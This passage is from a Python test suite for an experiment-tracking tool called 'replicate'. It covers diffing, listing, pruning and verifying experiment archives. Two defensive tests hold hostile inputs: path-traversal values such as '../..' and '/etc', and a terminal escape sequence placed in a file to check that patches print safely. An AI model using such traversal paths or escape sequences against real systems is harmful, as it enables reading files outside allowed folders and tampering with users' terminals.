    lines = on_terminal("diff", "1c", "2c", "3c", COLUMNS=str(columns), NO_COLOR="1").split("\n")
    assert row in lines and max(map(replicate.display_width, lines)) <= columns


def cells(text):
    """The cells of each line of a table."""
    return [re.split("  +", line.rstrip()) for line in text.split("\n")]


def test_diff_of_experiments_takes_the_best_or_the_latest_and_says_which(project, call):
    write_runs(project / "repo", {"checkpoints": SPECIFICATION_CHECKPOINTS}, {"checkpoints": [
        checkpoint_document(hex_id("5c"), "2006-01-02T15:00:00Z", 1, {"m": 1}),
        checkpoint_document(hex_id("6c"), "2006-01-02T15:00:01Z", 2, {"m": 0})]}, {"user": "ben"})
    code, out, err = call("diff", "1e", "2e")
    assert code == 0 and ["ID:", "2cccccc", "6cccccc"] in cells(out)
    assert "Comparing the best checkpoint of 1eeeeee: 2cccccc (step 20)\n" in err
    assert "Comparing the latest checkpoint of 2eeeeee: 6cccccc (step 2)\n" in err
    rows = cells(call("diff", "1e", "3e")[1])
    for row in ("ID:|2cccccc|(none)", "User:|andreas|ben", "metric-1:|0.01|(not set)", "Step:|20|(not set)"):
        assert row.split("|") in rows
    out = call("diff", C, D)[1]  # two of one experiment
    assert ["Step:", "10", "20"] in cells(out) and "Params\n(no difference)\n" in out
    assert ["metric-1:", "0.1", "0.01"] in cells(out) and "metric-2" not in out


@hypothesis.given(st.lists(st.lists(st.lists(st.text(st.characters(blacklist_categories=("Cs",)), max_size=30).map(
    replicate.escape_control), min_size=1, max_size=3), min_size=3, max_size=3), min_size=1, max_size=5))
def test_every_cell_of_a_table_starts_at_its_column(rows):
    columns = list(zip("ABC", zip(*[["\n".join(cell) for cell in row] for row in rows])))
    header, *found = replicate.table_rows(columns)
    lines = "".join([header + "\n"] + [text + "\n\n" for text in found]).split("\n")
    wanted = [max([1] + [replicate.display_width(line) for row in rows for line in row[column]]) + 2 for column in range(2)]
    expected = [header]
    for row in rows:
        for number in range(max(map(len, row))):
            cells = [lines_of[number] if number < len(lines_of) else "" for lines_of in row]
            padded = [cell + " " * (width - replicate.display_width(cell)) for cell, width in zip(cells, wanted)]
            expected.append(("".join(padded) + cells[2]).rstrip())
        expected.append("")
    assert lines == expected + [""]


# What differs in the code

def saved_code(project, files, path="code", **settings):
    """An experiment that saves these files below code/."""
    shutil.rmtree(str(project / "code"), ignore_errors=True)
    fill(project, {"code/" + name: content for name, content in files.items()})
    with replicate.init(path=path, quiet=True, **settings) as experiment:
        return experiment


OLD_CODE = {"same.py": b"same\n" * 30, "train.py": b"a\nb\nc\n", "no end": b"one\ntwo", "gone.py": b"1\n2\n", "data.bin": b"\0" * 2000,
            "huge.txt": b"x\n" * 600000, "latin.txt": b"caf\xe9\n", "crlf.txt": b"a\r\nb\r\n", "emptied": b"x",
            "old empty": b"", "many lines": b"1\n"}
NEW_CODE = {"same.py": b"same\n" * 30, "train.py": b"a\nB\nc\nd\n", "no end": b"one\ntwo\n", "data.bin": b"\0" * 3000, "new/deep.py": b"x\n",
            "huge.txt": b"x\n" * 600000 + b"y", "latin.txt": b"caf\xe9s\n", "crlf.txt": b"a\r\nc\r\n", "emptied": b"", "new empty": b"",
            "many lines": b"1\n" * 20001}
CODE_ROWS = {"train.py": "+2 -1", "no end": "+1 -1", "gone.py": "removed", "data.bin": "3.0 kB", "new/deep.py": "added, 2 bytes",
             "huge.txt": "1.2 MB", "latin.txt": "+1 -1", "crlf.txt": "+1 -1", "emptied": "+0 -1", "new empty": "added, 0 bytes",
             "old empty": "removed", "many lines": "40.0 kB"}


def code_rows(text):
    """{file: cells behind its name} of the block Code."""
    block = re.search(r"(?ms)^(?:Code|Changes since \w+)\n(.*?)(?:\n\n|\Z)", text).group(1)
    return {row[0][len("code/"):-1]: row[1:] for row in (re.split("  +", line.strip()) for line in block.splitlines())}


def test_diff_shows_what_changed_in_the_code_and_ls_that_it_changed(place, project, call):
    old, new, third = [saved_code(project, files) for files in (OLD_CODE, NEW_CODE, OLD_CODE)]
    code, out, err = call("diff", old.id, new.id)
    rows = code_rows(out)
    assert code == 0 and {name: cells[-1] for name, cells in rows.items()} == CODE_ROWS
    assert rows["train.py"][0] == "6 bytes" and rows["new/deep.py"][0] == "(not saved)"
    out = call("diff", old.id, new.id, third.id, old.id)[1]
    assert {name: cells[1:] for name, cells in code_rows(out).items()} == {
        name: [text, "(same)", "(same)"] for name, text in CODE_ROWS.items()}
    assert ["ID:", old.short_id(), new.short_id(), third.short_id(), old.short_id()] in cells(out)
    assert "\nCode\n(no difference)\n" in call("diff", old.id, third.id)[1]
    digest = place.document(old.id)["code"]
    assert re.fullmatch("[0-9a-f]{7}", digest) and place.document(third.id)["code"] == digest != place.document(new.id)["code"]
    out = call("ls")[1]
    assert " CODE " in out and out.count(digest) == 2
    assert call("ls", "-q", "-f", "code = " + digest)[1].split() == [old.id, third.id]
    new.delete()
    assert " CODE " not in call("ls")[1]


def test_diff_with_one_id_shows_what_changed_since(project, call):
    old = saved_code(project, OLD_CODE)
    assert call("diff", old.id)[1] == "Changes since %s\n(none)\n" % old.short_id()
    saved_code(project, NEW_CODE).delete()
    code, out, err = call("diff", old.id)
    assert (code, err) == (0, "") and {name: cells[0] for name, cells in code_rows(out).items()} == CODE_ROWS
    assert json.loads(call("diff", old.id, "--json")[1])["code/train.py"] == {
        "change": "changed", "old_size": 6, "new_size": 8, "lines_added": 2, "lines_removed": 1}
    assert run("diff", old.id, "--code").stdout.count("diff --git ") == len(CODE_ROWS)


@pytest.mark.parametrize("program", [["git", "apply"], ["patch", "-p1"]], ids=["git", "patch"])
def test_the_patch_of_diff_turns_one_code_into_the_other(project, tmp_path, program):
    if not shutil.which(program[0]):
        pytest.skip("%s is not installed" % program[0])
    odd = {'qu"ote\\.py': b"1\n", "tab\there.py": b"1\n", "n\u00fc \u65e5.py": b"1\n"}
    old, new = saved_code(project, dict(OLD_CODE, **odd)), saved_code(project, dict(NEW_CODE, **{name: b"2\n" for name in odd}))
    old.checkout(str(tmp_path / "old"), quiet=True)
    patch = subprocess.run([sys.executable, str(PROGRAM), "diff", old.id, new.id, "--code"], stdout=subprocess.PIPE, check=True).stdout
    named, only_named = [line for line in patch.split(b"\n") if line.startswith(b"Binary files")], ["data.bin", "huge.txt", "many lines"]
    assert named == [b"Binary files a/code/%s and b/code/%s differ" % (name.encode(), name.encode()) for name in only_named]
    texts = b"".join(part for part in re.split(rb"(?m)^(?=diff --git)", patch) if b"\nBinary files" not in part)
    done = subprocess.run(program, cwd=str(tmp_path / "old"), input=texts, capture_output=True)
    assert done.returncode == 0, done.stdout.decode() + done.stderr.decode()
    new.checkout(str(tmp_path / "new"), quiet=True)
    left, right = tree(tmp_path / "old/code"), tree(tmp_path / "new/code")
    assert {name for name in left.keys() | right.keys() if left.get(name) != right.get(name)} == set(only_named)


def test_diff_chooses_files_by_path_and_compares_checkpoints(project, call):
    fill(project, {"out/events.out.tfevents.1": b"same"})
    with replicate.init(path="replicate.yaml", quiet=True) as experiment:
        for step in range(2):
            fill(project, {"out/log.txt": b"line\n" * (step + 1), "out/weights": b"\0" * (step + 1)})
            experiment.checkpoint(path="out", quiet=True)
    first, second = [item.id for item in experiment.checkpoints]
    out = call("diff", first, second)[1]
    assert cells(out)[-4:-1] == [["Files"], ["out/log.txt:", "5 bytes", "+1 -0"], ["out/weights:", "1 byte", "2 bytes"]]
    assert "\nCode\n(no difference)\n" in out
    assert call("diff", first, second, "--code", "--path", "./out/log.txt")[1] == (
        "diff --git a/out/log.txt b/out/log.txt\n--- a/out/log.txt\n+++ b/out/log.txt\n@@ -1 +1,2 @@\n line\n+line\n")
    assert call("diff", first, second, "--code", "--path", "ou")[1:] == ("", "═══╡ No differences in ou\n")
    assert call("diff", first, first, "--code")[1:] == ("", "═══╡ No differences\n")
    assert [row[0] for row in cells(call("diff", first)[1])[1:-1]] == ["out/log.txt:", "out/weights:"]


def test_diff_json_has_everything_in_full(project, call):
    left = experiment_document(A, params={"long": "x" * 100, "n": 1, "same": 2}, checkpoints=[checkpoint_document(C, metrics={"loss": 0.125})])
    right = experiment_document(B, params={"long": "y" * 100, "n": [1], "same": 2.0}, host=None)
    write_repository(project / "repo", left, right)
    assert json.loads(call("diff", "1e", "2e", "--json")[1]) == {
        "experiments": [A, B], "checkpoints": [C, None], "differences": {
            "Experiment": {"Host": ["10.1.1.1", ""]}, "Params": {"long": ["x" * 100, "y" * 100], "n": [1, [1]]}, "Python Packages": {},
            "Checkpoint": {"Created": ["2006-01-02T15:01:05Z", None], "Path": ["", None], "Step": [0, None]},
            "Metrics": {"loss": [0.125, None]}}}


def test_archives_of_others_are_compared_by_reading_them(project, call):
    for item, text in ((A, b"a\n"), (B, b"a\nb\n")):
        write_archive(project / "repo/experiments" / (item + ".tar.gz"), item, {"train.py": text, "same": b"x"})
    write_repository(project / "repo", experiment_document(A, path="."), experiment_document(B, path="."))
    assert "\nCode\ntrain.py:                 2 bytes                   +1 -0\n" in call("diff", "1e", "2e")[1]
    (project / "repo/experiments" / (B + ".tar.gz")).unlink()
    code, out, err = call("diff", "1e", "2e")
    assert code == 0 and "The files of experiment 2eeeeee are gone" in err and "not compared" in err
    assert call("diff", "1e", "2e", "--code")[0] == 1


@pytest.mark.parametrize("path", ["../..", "/etc", ".git", "a/../../b", "missing"])
def test_a_hostile_path_is_not_compared_with(project, call, path):
    archived(project, {"train.py": b"x\n"}, path=path)
    code, out, err = call("diff", "1e")
    assert (code, out, "not compared" in err) == (0, "", True) or path == "missing" and "removed" in out


def test_a_patch_is_safe_on_a_terminal(project):
    first = saved_code(project, {"x.py": b"1\n"})
    second = saved_code(project, {"x.py": HOSTILE.encode("utf-8", "replace") + b"\ttab\n\x1b]2;t\x07\n"})
    terminal = Terminal("diff", first.id, second.id, "--code")
    assert terminal.wait() == 0
    assert "\x1b[32m+" in terminal.output and "\x1b[31m-1" in terminal.output and "\ttab" in terminal.output
    assert not STEERING.search(re.sub(r"\x1b\[\d+(;\d+)?m|\r\n|\t", "", terminal.output))


def test_two_archives_are_compared_by_two_range_reads_each(s3_bucket, project, call):
    fill(project, {"big": os.urandom(3 << 20)})
    experiments = [saved_code(project, {"big": bytes([number]) * (3 << 20), "a.py": b"1\n"}, path=".") for number in range(2)]
    s3_bucket.proxy.clear()
    assert call("diff", *[item.id for item in experiments])[0] == 0
    reads = [request for request in s3_bucket.proxy.seen("GET") if request.key.endswith(".tar.gz")]
    assert len(reads) == len(experiments) and all("Range" in request.headers for request in reads)


def test_a_table_that_lies_about_sizes_does_not_fill_the_memory(project, call):
    first, second = saved_code(project, {"x.py": b"1\n"}), saved_code(project, {"x.py": b"2\n" * 100000})
    path = project / "repo/experiments" / (second.id + ".tar.gz")
    data = path.read_bytes()
    table = replicate.Repository("file://%s" % (project / "repo")).archive("experiments", second.id).table
    end = sum(compressed for compressed, _ in table.members)
    path.write_bytes(data[:end] + replicate.Table(table.members, [(name, offset, 5, crc) for name, offset, _, crc in table.files]).encode())
    code, out, err = call("diff", first.id, second.id)
    assert code == 0 and "it is too large" in err and "not compared" in err
    code, out, err = call("diff", first.id, second.id, "--code")
    assert (code, out) == (1, "") and len(err.splitlines()) == 1


@pytest.mark.parametrize("ignored, path, written, flags, line", [
    ("", "model.bin", "model.bin", "", "'/model.bin'"), ("", "out", "out/model.bin", "", "'/out/'"),
    ("/out/\n", "out", "out/model.bin", "", ""),
    ("/model.bin\n", "model.bin", "model.bin", "", ""), ("", "model.bin", "model.bin", ", quiet=True", "'/model.bin'"),
    ("", ".", "model.bin", "", ""), ("", "train.py", "model.bin", "", "")])
def test_outputs_that_are_saved_as_code_draw_one_hint(project, ignored, path, written, flags, line):
    fill(project, {".replicateignore": ignored.encode(), "train.py": b"1"})
    script = """
        import os, sys, replicate
        for run in range(2):
            with replicate.init(path=".") as experiment:
                for step in range(2):
                    os.makedirs(os.path.dirname(%(written)r) or ".", exist_ok=True)
                    open(%(written)r, "w").write("%%s, %%d, %%d" %% (sys.argv[1], run, step))
                    saved = experiment.checkpoint(path=%(path)r%(flags)s)
                saved.open(%(written)r if %(path)r != "train.py" else "train.py")
        """ % {"written": written, "path": path, "flags": flags}
    for number in "12":
        err = run_script(script, number).stderr
        assert err.count(".replicateignore") == err.count("add the line " + line) == bool(line), err
    if ignored:
        assert len({document["code"] for document in stored_documents(project / "repo")}) == 1


# ------------------------------------------------------------------------------------------------------------------
# 11  Commands, parser, main
# ------------------------------------------------------------------------------------------------------------------

def two_experiments(project, running=(), **fields):
    write_repository(project / "repo", experiment_document(A, params={"lr": 0.1, "name": "adam"}, **fields),
                     experiment_document(B, created="2006-01-02T14:55:05Z", params={"lr": 0.2, "name": "sgd"}), running=running)


@pytest.fixture
def says(call):
    """says(...) is what a command says on stderr that prints nothing, and succeeds or has another exit code."""
    def invoke(*arguments, code=0):
        found, out, err = call(*arguments)
        assert (found, out) == (code, ""), err
        assert "Traceback" not in err and "unexpected" not in err
        return err
    return invoke


@pytest.fixture
def a_and_b(project):
    """The experiments A and B in the project's repository."""
    two_experiments(project)


def test_ps_lists_the_running_ones_and_ls_all(project, call, says):
    none = "═══╡ No experiments found\n"
    assert says("ls") == says("ps") == says("ls", "--all") == none and says("ls", "-q") == ""
    assert call("ls", "--json") == (0, "[]\n", "")
    two_experiments(project)
    assert says("ls", "-f", "lr > 9") == says("ps") == none
    assert "lr=0.2" in call("ls")[1] and "lr=" not in call("ls", "-f", "lr > 0.1")[1]  # what differs in the list
    two_experiments(project, running=[B])
    assert call("ps", "-q") == call("processes", "-q") == (0, B + "\n", "")
    assert call("ls", "-q") == call("list", "-q") == (0, A + "\n" + B + "\n", "")
    assert "  running" in call("ps")[1] and "  stopped" not in call("ps")[1]
    assert says("ps", "-q", "-f", "lr = 0.1") == ""


def test_a_long_json_list_is_printed_in_pieces(monkeypatch):
    printed = []
    monkeypatch.setattr(replicate, "say", printed.append)
    value = [{"id": number, "params": {"text": "ä,\n]"}, "list": []} for number in range(1201)]
    replicate.say_json(value)
    assert "".join(printed) == json.dumps(value, indent=2, ensure_ascii=False) + "\n"
    assert max(map(len, printed)) < sum(map(len, printed)) / 2


def test_the_shape_of_json(project, call):
    first = checkpoint_document(C, step=1, metrics={"loss": 0.1}, path="m", primary=("loss", "minimize"))
    second = checkpoint_document(D, "2006-01-02T15:01:06Z", 2, {"loss": "[NaN]"}, primary=("loss", "minimize"))
    write_repository(project / "repo", experiment_document(A, params={"x": "[NaN]"}, checkpoints=[first, second]),
                     dict(experiment_document(B, created="2006-01-02T14:55:05Z", host=None), params=None), running=[B])
    code, out, err = call("ls", "--json")
    assert (code, err) == (0, "")
    assert json.loads(out) == [
        {"id": A, "created": "2006-01-02T14:54:05Z", "params": {"x": "[NaN]"}, "command": "train.py", "num_checkpoints": 2,
         "latest_checkpoint": second, "best_checkpoint": first, "user": "andreas", "host": "10.1.1.1", "status": "stopped",
         "running": False},
        {"id": B, "created": "2006-01-02T14:55:05Z", "params": {}, "command": "train.py", "num_checkpoints": 0,
         "latest_checkpoint": None, "best_checkpoint": None, "user": "andreas", "host": None, "status": "running",
         "running": True}]


def run_with_files(project, losses, **settings):
    """An experiment in this process with code, and a checkpoint with a file for each of these losses."""
    (project / "train.py").write_text("print()\n")
    with replicate.init(path="train.py", params={"runs": len(losses)}, quiet=True, **settings) as experiment:
        for step, loss in enumerate(losses):
            (project / "model.bin").write_bytes(bytes([step]) * 2000 + os.urandom(2000))
            experiment.checkpoint(path="model.bin", step=step, metrics={"loss": loss}, primary_metric=("loss", "minimize"), quiet=True)
    return experiment


def steps_with_files(experiment):
    return [checkpoint.step for checkpoint in replicate.experiments.get(experiment.id).checkpoints if checkpoint.path]


def archives_in(place, kinds=("checkpoints/", "experiments/")):
    """The keys of archives; a running experiment's journal and heartbeat come and go."""
    return [key for key in place.keys() if key.startswith(kinds)]


LOSSES = [0.5, 0.2, 0.9, 0.1, 0.2, 0.8]


def test_du_and_prune(place, project, call):
    first, second = run_with_files(project, LOSSES), run_with_files(project, [1.0, float("nan")])
    running = replicate.init(params={"runs": 0}, quiet=True)
    for _ in range(4):
        running.checkpoint(path="model.bin", quiet=True)
    until(lambda: len(archives_in(place)) == 14 and len(place.documents()) == 3)
    place.put("checkpoints/%s.tar.gz" % hex_id("ff"), b"1234567")
    before = {key: len(place.get(key)) for key in archives_in(place)}

    def size(kind, *items):
        return sum(before["%s/%s.tar.gz" % (kind, item.id)] for item in items)

    sizes = [(size("experiments", one), size("checkpoints", *one.checkpoints)) for one in (first, second)]
    assert json.loads(call("du", "-f", "runs > 0", "--json")[1]) == {"experiments": [
        {"id": one.id, "code": code, "weights": weights, "total": code + weights}
        for one, (code, weights) in zip((first, second), sizes)], "total": sum(map(sum, sizes)), "unowned": 7}
    code, out, err = call("du", "-f", "runs > 0")
    lines = out.split("\n")
    assert [line.split()[0] for line in lines[:-1]] == ["EXPERIMENT", first.short_id(), second.short_id(), "total"]
    counts = [re.search(r"(\d+)(?: +[\d.]+ \w+){3}$", line) for line in lines[1:4]]
    assert [found.group(1) for found in counts] == ["6", "2", "8"]
    assert {found.end(1) for found in counts} == {lines[0].index("CHECKPOINTS") + len("CHECKPOINTS")}
    assert lines[1].endswith(replicate.format_size(sum(sizes[0]))) and "No experiment uses 1 other archive (7 bytes): " in err

    freed = replicate.format_size(size("checkpoints", *first.checkpoints[:3]))
    pruned = [item.id for item in first.checkpoints[:3]]
    code, out, err = call("prune", "--keep-best", "2", "--dry-run")
    assert (code, out) == (0, "* Experiment %s: 3 of 6 checkpoints (%s)\n" % (first.short_id(), freed)) and freed in err
    code, out, err = call("prune", "--keep-best", "2")  # without a terminal
    assert code == 1 and "Nothing was changed. Pass --force" in err and archives_in(place) == list(before)
    code, out, err = call("prune", "--keep-best", "2", "--force", "--json")
    assert code == 0 and "Pruned 3 checkpoints of 1 experiment: %s freed" % freed in err
    assert [(one["id"], sorted(one["checkpoints"])) for one in json.loads(out)] == [(first.id, sorted(pruned))]
    assert set(before) - set(archives_in(place)) == {"checkpoints/%s.tar.gz" % item_id for item_id in pruned}
    assert steps_with_files(first) == [3, 4, 5] and steps_with_files(second) == [0, 1]
    again = replicate.experiments.get(first.id)
    assert again.checkpoints.metrics["loss"] == LOSSES and again.checkpoints[0].pruned == "model.bin"
    assert call("prune", "--keep-best", "2", "--force")[2].endswith("There is nothing to prune\n")
    assert len(archives_in(place)) == len(before) - len(pruned)  # those of the running one, and of nobody, are there
    running.stop()

    assert "(pruned: the files are gone)" in call("show", pruned[0])[1]
    shown = call("show", first.id)[1].split("\nCheckpoints\n")[1].split("\n")[:7]
    assert {line[shown[0].index("FILES"):].split()[0] for line in shown[1:4]} == {"(pruned)"}
    assert {line[shown[0].index("FILES"):].split()[0] for line in shown[4:]} == {"model.bin"}
    assert "FILES" not in call("show", second.id)[1]
    code, out, err = call("checkout", pruned[0], "-o", "out")
    assert code == 0 and "The files of checkpoint %s (model.bin) were pruned" % pruned[0][:7] in err
    assert os.listdir("out") == ["train.py"] and "Checked out 1 file from experiment %s into out" % first.short_id() in err
    with pytest.raises(replicate.DoesNotExist, match="were pruned"):
        again.checkpoints[0].open("model.bin")
    assert "were pruned" in call("diff", pruned[0], first.checkpoints[5].id)[2]


def faults(call, *arguments):
    """{key: fault} that `verify` prints."""
    code, out, err = call("verify", *arguments)
    found = dict(line.split(": ", 1) for line in out.split("\n")[:-1])
    assert code == bool(found) and ("no faults" in err) == (not found)
    return found


def test_verify_finds_what_is_gone_damaged_or_belongs_to_nobody(place, project, call, monkeypatch):
    first, second = run_with_files(project, LOSSES), run_with_files(project, LOSSES, keep_best=1)
    assert faults(call) == {}
    gone, torn, flipped, other, foreign = ["checkpoints/%s.tar.gz" % item.id for item in first.checkpoints[:5]]
    place.remove(gone)
    place.put(torn, place.get(torn)[:2000])
    data = place.get(flipped)
    place.put(flipped, data[:2000] + bytes([data[2000] ^ 1]) + data[2001:])
    place.put(other, archive_bytes(hex_id("ab"), {"model.bin": b"x"}))
    place.put(foreign, archive_bytes(first.checkpoints[4].id, {"model.bin": b"as another program packs it"}))
    code = "experiments/%s.tar.gz" % first.id
    place.put(code, archive_bytes(first.id, {"train.py": b"changed"}))
    document, beat = "metadata/experiments/%s.json" % hex_id("dd"), "metadata/heartbeats/%s.json" % hex_id("dd")
    stray = ["checkpoints/%s.tar.gz" % hex_id("ff"), "experiments/%s.tar.gz" % hex_id("fe")]
    for key in stray:
        place.put(key, b"1234567")
    found = faults(call)
    assert found.pop(gone) == "it is missing; experiment %s needs it" % first.short_id()
    assert "cut off" in found.pop(torn) and "damaged" in found.pop(flipped) and "not below the folder" in found.pop(other)
    assert found.pop(code) == "its files differ from those that the experiment recorded"
    assert found == {}  # what may become somebody's yet is none
    assert set(faults(call, second.id)) == set() and set(faults(call, first.checkpoints[0].id)) == {gone}
    assert set(faults(call, first.id)) == {gone, torn, flipped, other, code}

    monkeypatch.setattr(replicate, "LEFTOVER_SECONDS", -60)
    monkeypatch.setattr(replicate, "HEARTBEAT_TIMEOUT", -60)
    place.put(beat, json.dumps({"experiment_id": hex_id("dd"), "last_heartbeat": "2006-01-02T14:54:05Z"}).encode())
    leftovers = {*stray, beat} - ({beat} if place.url.startswith("file") else set())  # there every command removes it
    assert {key for key, fault in faults(call).items() if "no experiment uses it" in fault} >= leftovers
    place.put(document, b"{")
    found = faults(call)
    assert "not valid JSON" in found[document] and stray[0] not in found and stray[1] in found  # the first may belong to it
    place.remove(document)
    assert set(faults(call, "--fix")) == {gone, torn, flipped, other, code}
    assert not {*stray, beat} & set(place.keys())
    assert [item["key"] for item in json.loads(call("verify", "--json")[1])] == [code, gone, torn, flipped, other]


def test_verify_leaves_what_a_run_is_about_to_record(project, call, monkeypatch, training):
    monkeypatch.setattr(replicate, "LEFTOVER_SECONDS", -60)
    experiment_id = training("experiment = replicate.init(quiet=True)\nsave(0)\nwait(experiment.id)").expect("")
    write_archive(project / "repo/checkpoints" / (hex_id("ff") + ".tar.gz"), hex_id("ff"), {"model": b"not in the journal yet"})
    assert faults(call, "--fix") == {} and (project / "repo/checkpoints" / (hex_id("ff") + ".tar.gz")).exists()
    assert call("ls", "-q")[1] == experiment_id + "\n"


def test_verify_folds_journals_only_with_fix(project, call, training):
    script = training("""
        replicate.FOLD_INTERVAL = replicate.MAX_FOLD_INTERVAL = 1000
        experiment = replicate.init(quiet=True)
        save(0)
        time.sleep(0.5)
        save(1)
        wait(experiment.id)
        """)
    script.expect("")
    script.kill()
    repo = project / "repo"
    fill(repo, {"tmp/x.part": b"x" * 100})
    before = snapshot(repo)
    found = faults(call)
    assert any(key.startswith("journals/") for key in found) and "no experiment uses it" in found["tmp/x.part"]
    assert snapshot(repo) == before and faults(call, "--fix") == {}
    assert [item["step"] for item in stored_documents(repo)[0]["checkpoints"]] == [0, 1]
    assert names_in(repo / "journals") == [] and not (repo / "tmp/x.part").exists()


def test_verify_reads_every_bit(project, call):
    """No flipped bit of an archive goes unnoticed, but for those that say nothing: times, names and flags of gzip headers."""
    experiment = run_with_files(project, [1.0])
    path = project / "repo/checkpoints" / (experiment.checkpoints[0].id + ".tar.gz")
    data = path.read_bytes()
    missed = []
    for position in range(0, len(data), 41):
        path.write_bytes(data[:position] + bytes([data[position] ^ 4]) + data[position + 1:])
        if not faults(call, experiment.id):
            missed.append(position)
    unread = len(data) - replicate.FOOTER_BYTES  # where the last member starts, whose header does not count itself
    assert [position for position in missed if 10 < position < table_start(data) - 60 or
            table_start(data) + 10 <= position < unread] == []


def test_an_interrupted_pruning_is_finished_by_the_next(project, call, monkeypatch):
    experiment = run_with_files(project, LOSSES)
    with monkeypatch.context() as patch:
        def die(self, keys):
            if any(key.startswith("checkpoints/") for key in keys):
                raise KeyboardInterrupt
        patch.setattr(replicate.DiskStorage, "delete", die)
        assert call("prune", "--force")[0] == 130
    assert steps_with_files(experiment) == [3, 5] and len(names_in(project / "repo/checkpoints")) == 6
    assert "Pruned 4 checkpoints" in call("prune", "--force")[2] and len(names_in(project / "repo/checkpoints")) == 2


def test_pruning_goes_on_after_an_experiment_that_cannot_be_pruned(project, call, monkeypatch):
    first, second = run_with_files(project, LOSSES), run_with_files(project, LOSSES)
    edit = replicate.Repository.edit

    def fail(self, experiment_id, change):
        if experiment_id == first.id:
            raise replicate.WriteError("It cannot be written.")
        edit(self, experiment_id, change)
    monkeypatch.setattr(replicate.Repository, "edit", fail)
    code, out, err = call("prune", "--force")
    assert code == 1 and "It cannot be written." in err and "Pruned 4 checkpoints of 1 experiment:" in err
    assert steps_with_files(first) == [0, 1, 2, 3, 4, 5] and steps_with_files(second) == [3, 5]


@pytest.mark.parametrize("losses, goal, best, latest, kept", [
    (LOSSES, "minimize", 2, 1, [3, 4, 5]), (LOSSES, "maximize", 2, 1, [2, 5]), (LOSSES, "minimize", 0, 0, []),
    (LOSSES, "minimize", 9, 0, [0, 1, 2, 3, 4, 5]), (LOSSES, None, 2, 1, [4, 5]), (LOSSES, None, 1, 3, [3, 4, 5]),
    (["[NaN]"] * 6, "minimize", 2, 0, [4, 5]), (["[NaN]", 1, "x", None, 2, "[NaN]"], "minimize", 3, 0, [1, 4]),
    (["[+Infinity]", 1, 2], "maximize", 1, 0, [0]), ([], "maximize", 1, 1, [])])
def test_which_files_are_kept(losses, goal, best, latest, kept):
    items = [checkpoint_document(hex_id("%xc" % step), "2006-01-02T15:01:%02dZ" % step, step, {"loss": loss}, "model",
                                 goal and ("loss", goal)) for step, loss in enumerate(losses)]
    items.insert(0, checkpoint_document(hex_id("fc"), "2006-01-02T15:01:00Z", 0, {"loss": -5}, None, goal and ("loss", goal)))
    pruned = {item["id"] for item in replicate.prunable(items, best, latest)}
    assert [item["step"] for item in items[1:] if item["id"] not in pruned] == kept and items[0]["id"] not in pruned


def test_init_keeps_the_files_of_the_best_and_latest(place, project, call):
    experiment = run_with_files(project, LOSSES, keep_best=2)
    assert steps_with_files(experiment) == [3, 4, 5]
    assert archives_in(place, "checkpoints/") == sorted("checkpoints/%s.tar.gz" % item.id for item in experiment.checkpoints[3:])
    assert replicate.experiments.get(experiment.id).checkpoints.metrics["loss"] == LOSSES
    with replicate.init(resume=experiment.id, keep_best=1, keep_latest=0, quiet=True) as resumed:
        (project / "model.bin").write_bytes(b"best of all")
        resumed.checkpoint(path="model.bin", metrics={"loss": 0.01}, quiet=True)
    assert steps_with_files(experiment) == [6] and len(archives_in(place, "checkpoints/")) == 1
    assert resumed.best().open("model.bin").read() == b"best of all"
    assert call("prune", "--force")[2].endswith("There is nothing to prune\n")


def test_recording_goes_on_after_files_that_were_pruned_while_they_were_compressed_cannot_be_removed(
        project, repo, monkeypatch, capsys):
    def fail(storage, keys):
        if threading.current_thread() is not threading.main_thread():
            raise replicate.WriteError("It cannot be removed.")
    experiment = replicate.init(keep_latest=1, quiet=True)
    experiment.project.recorders.find(experiment).pruned.add("b" * 64)
    monkeypatch.setattr(replicate.DiskStorage, "delete", fail)
    experiment.project.recorders.find(experiment).worker.pack_later("checkpoints", "b" * 64)
    until(lambda: "It cannot be removed." in capsys.readouterr().err)
    experiment.checkpoint(metrics={"n": 1}, quiet=True)
    until(lambda: stored_documents(repo)[0]["checkpoints"])
    monkeypatch.undo()
    experiment.stop()


def test_files_that_cannot_be_compressed_are_kept_as_they_are_and_that_is_said_once(project, monkeypatch, capsys):
    def fail(archive, file, check):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    monkeypatch.setattr(replicate, "recompress", fail)
    (project / "model").write_bytes(b"text " * 100000)
    with replicate.init(quiet=True) as experiment:
        for number in range(3):
            experiment.checkpoint(path="model", quiet=True)
    message = "Saved files could not be compressed, so they take more space: No space left on device."
    assert one_message(capsys.readouterr().err) == message
    assert experiment.checkpoints[2].open("model").read() == (project / "model").read_bytes()


KEEPS_THE_BEST = """
def save(*losses):
    for loss in losses:
        open("model", "w").write("x" * 100)
        experiment.checkpoint(path="model", metrics={"loss": loss}, primary_metric=("loss", "minimize"), quiet=True)
experiment = replicate.init(keep_best=1, quiet=True)
"""


def test_what_a_killed_run_pruned_stays_pruned(project, training, call):
    script = training(KEEPS_THE_BEST + "save(3, 1, 2, 4)\nwait(experiment.id)")
    experiment_id = script.expect("")
    script.kill()
    found = json.loads(call("show", experiment_id, "--json")[1])
    assert [item.get("pruned") for item in found["checkpoints"]] == ["model", None, "model", None]
    assert len(names_in(project / "repo/checkpoints")) == 2


def test_what_a_killed_run_pruned_in_a_bucket_goes_with_the_next_upload(bucket, project, training):
    script = training(KEEPS_THE_BEST + "save(5, 4, 6)\nwait('one')\nsave(3, 7, 2, 8)\nwait('two')")
    script.expect("one")
    until(lambda: bucket.exists() and len(bucket.checkpoints()) == 3)
    bucket.proxy.down()
    script.go()
    script.expect("two")
    script.kill()
    bucket.proxy.up()
    assert run("push").returncode == 0
    assert [item["path"] for item in bucket.documents()[0]["checkpoints"]] == [None, None, None, None, None, "model", "model"]
    assert len(archives_in(bucket)) == 2


def test_files_that_are_pruned_after_an_upload_failed_leave_the_bucket(bucket, project, hasty):
    experiment = replicate.init(keep_best=1, quiet=True)
    (project / "model").write_bytes(b"weights")

    def save(*losses):
        for loss in losses:
            experiment.checkpoint(path="model", metrics={"loss": loss}, primary_metric=("loss", "minimize"), quiet=True)
    until(bucket.documents)
    bucket.proxy.rule = lambda request: "reset" if experiment.id in request.key and request.method != "GET" else None
    save(9)
    (first,) = until(lambda: archives_in(bucket))
    save(7, 8)
    until(lambda: [item.get("pruned") for item in pending_documents(project)[0]["checkpoints"]] == ["model", None, None])
    mend(bucket.proxy)
    experiment.stop()
    assert first not in archives_in(bucket) and len(archives_in(bucket)) == len(bucket.checkpoints()) - 1 == 2


def test_files_leave_the_bucket_although_the_run_was_killed_before_it_could_remove_them(bucket, project, training):
